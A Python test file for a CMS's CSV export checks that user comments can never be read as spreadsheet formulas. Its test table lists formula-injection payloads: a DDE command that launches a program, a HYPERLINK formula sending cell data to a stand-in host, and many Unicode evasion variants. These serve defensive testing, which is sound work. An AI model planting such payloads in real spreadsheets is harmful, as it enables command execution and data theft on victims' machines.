"""No text becomes a formula, whichever program opens the file, and however it tells cells from each other."""

import csv
import io
import re
import sys
import unicodedata
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cms.comments.models import CommentStatus
from cms.transfer.sheets.cells import FORMULA, LONGEST, Cell, cell, lines
from cms.transfer.sheets.exporting import SHEETS

#: What readers would write who mean harm, and others who mean none; and what is in the file.
TEXTS = {
    # Formulas, as they are and behind what programs pass over.
    "=1+1": "'=1+1",
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "|cmd": "'|cmd",
    '=HYPERLINK("https://thief.example/?"&A1,"Read on")': '\'=HYPERLINK("https://thief.example/?"&A1,"Read on")',
    " =1": "' =1",
    '"=1': "'\"=1",
    '"" =1': '\'"" =1',
    "“=1": "'“=1",
    "\u00a0=1": "'\u00a0=1",
    "\u3000=1": "'\u3000=1",
    "\u200b=1": "'\u200b=1",
    "\ufeff=1": "'\ufeff=1",
    "\u202e=1": "'\u202e=1",
    "\x00=1": "'=1",
    "\x01\x1f\x7f\x9f=1": "'=1",
    "\t=1": "'\t'=1",
    "\tindented": "'\tindented",
    "\r=1": "\n'=1",
    "\r\n \t=1": "\n' \t'=1",
    "\v=1": "\n'=1",
    "\u2028=1": "\n'=1",
    # Other forms of the same characters.
    "\uff1d1": "'\uff1d1",
    "\uff0b1": "'\uff0b1",
    "\uff0d1": "'\uff0d1",
    "\uff201": "'\uff201",
    "\ufe661": "'\ufe661",
    "\u22121": "'\u22121",
    "\uff5ccmd": "'\uff5ccmd",
    # Behind what elsewhere ends a cell or a row.
    "soup;=1": "soup;'=1",
    "soup; =1": "soup;' =1",
    'soup";"=1': 'soup";\'"=1',
    "soup\t=1": "soup\t'=1",
    "soup\n=1": "soup\n'=1",
    "soup\r\n- and bread": "soup\n'- and bread",
    "Anton; @ines": "Anton;' @ines",
    "so nice ;-)": "so nice ;'-)",
    "🙂 - yes": "'🙂 - yes",
    # Nothing to fear.
    "": "",
    "soup": "soup",
    "1 = 1, 2 + 2 - 4": "1 = 1, 2 + 2 - 4",
    "ines@mail.example.org": "ines@mail.example.org",
    "'=1": "'=1",
    "(=1)": "(=1)",
    ":-)": ":-)",
    "bread, -soup": "bread, -soup",
    "soup; bread\tbutter\nsalt": "soup; bread\tbutter\nsalt",
    'She said "=".': 'She said "=".',
    "ließ, 猫, ἀρχή": "ließ, 猫, ἀρχή",
    "two\r\nlines\rand a third\n": "two\nlines\nand a third",
    "NUL\x00 and bell\x07": "NUL and bell",
}


@pytest.mark.parametrize(("text", "shown"), TEXTS.items(), ids=map(ascii, TEXTS))
def test_texts(text: str, shown: str) -> None:
    """Somebody opens the comments of the week, and the program asks whether it may start another."""
    assert cell(text) == shown


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (0, "0"),
        (-3, "-3"),
        (True, "yes"),
        (False, "no"),
        (CommentStatus.APPROVED, "APPROVED"),
        (datetime(2013, 5, 14, 6, 30, tzinfo=UTC), "2013-05-14T06:30:00Z"),
        (datetime(2013, 5, 14, 6, 30, 0, 250, timezone(timedelta(hours=2))), "2013-05-14T04:30:00.000250Z"),
    ],
)
def test_numbers_and_times_are_as_they_are(value: Cell, shown: str) -> None:
    """A column cannot be summed or sorted."""
    assert cell(value) == shown


def test_every_form_of_these_characters_is_known() -> None:
    """A newer Unicode has another full-width equals sign, which spreadsheets may read as one."""
    every = map(chr, range(sys.maxunicode + 1))
    alike = {each for each in every if unicodedata.normalize("NFKC", each) in set("=+-@|\u2212")}
    assert set(FORMULA) == alike | {"\t"}


def test_what_is_longer_than_a_cell_is_cut() -> None:
    """The rest of a long comment, which may be a formula, goes wherever a program puts it."""
    fits, astral = "a" * LONGEST, "🙂" * (LONGEST // 2)
    assert (cell(fits), cell(astral)) == (fits, astral)
    assert cell(fits + "=1") == "a" * (LONGEST - 1) + "…"
    assert cell(f"{astral}🙂") == astral + "…"
    assert cell("=" * LONGEST) == "'" + "=" * (LONGEST - 2) + "…"


def test_headings_are_cells_like_others() -> None:
    """A column is added whose heading is worked out."""
    headings = [heading for sheet in SHEETS for heading in sheet.columns]
    assert [heading for heading in headings if cell(heading) != heading] == []
    assert lines([["=1", "id"]]) == b'"\'=1","id"\r\n'


def test_rows_are_as_rfc_4180_has_them() -> None:
    """A quote or a line break in a title moves every column after it."""
    assert lines([["a,b", 'c"d', "e\r\nf"], [1, None, "ä"]]) == '"a,b","c""d","e\nf"\r\n"1","","ä"\r\n'.encode()


_WORTH_TRYING = st.sampled_from("=+-@|;,\t\r\n\v\"'“ \x00\x1f\u00a0\u200b\u2028\ufeff＝＋－＠｜a1")
_HOSTILE = st.text(_WORTH_TRYING | st.characters(exclude_categories=["Cs"]))


@given(st.lists(st.lists(_HOSTILE, min_size=1), min_size=1))
@example([["x\n\n\t;\t =", "\v\u2029;;-"]])
def test_no_cell_begins_with_a_formula(rows: list[list[str]]) -> None:
    """A text is read back as a formula: with the file's own commas, or with semicolons, tabs or lines as the ends."""
    written = lines(rows).decode()
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert [len(row) for row in read] == [len(row) for row in rows]
    assert [each for row in read for each in row if _is_formula(each)] == []
    assert [each for each in re.split(r"[;\t\n]", written) if _is_formula(each)] == []
    assert "\x00" not in written
    assert re.sub(r"\r\n", "", written).count("\r") == 0


@given(_HOSTILE)
def test_nothing_is_lost_but_what_nobody_sees(text: str) -> None:
    """What protects a text changes its words."""
    kept = "".join(each for each in "\n".join(text.splitlines()) if each in "\t\n" or not _is_control(each))
    assert cell(text).replace("'", "") == kept.replace("'", "")


def _is_formula(text: str) -> bool:
    """Whether some program may take it for one: the rule anew, by what Unicode says of each character."""
    if text[:1] in {"\t", "\r"}:
        return True
    first = next((each for each in text if not _is_passed_over(each)), "")
    return unicodedata.normalize("NFKC", first) in {"=", "+", "-", "@", "|", "\u2212"}


def _is_passed_over(character: str) -> bool:
    """White space, signs without a shape, and quotes, but the apostrophe that protects."""
    return character == '"' or unicodedata.category(character) in {"Cc", "Cf", "Zs", "Zl", "Zp", "Pi", "Pf"}


def _is_control(character: str) -> bool:
    return unicodedata.category(character) == "Cc"
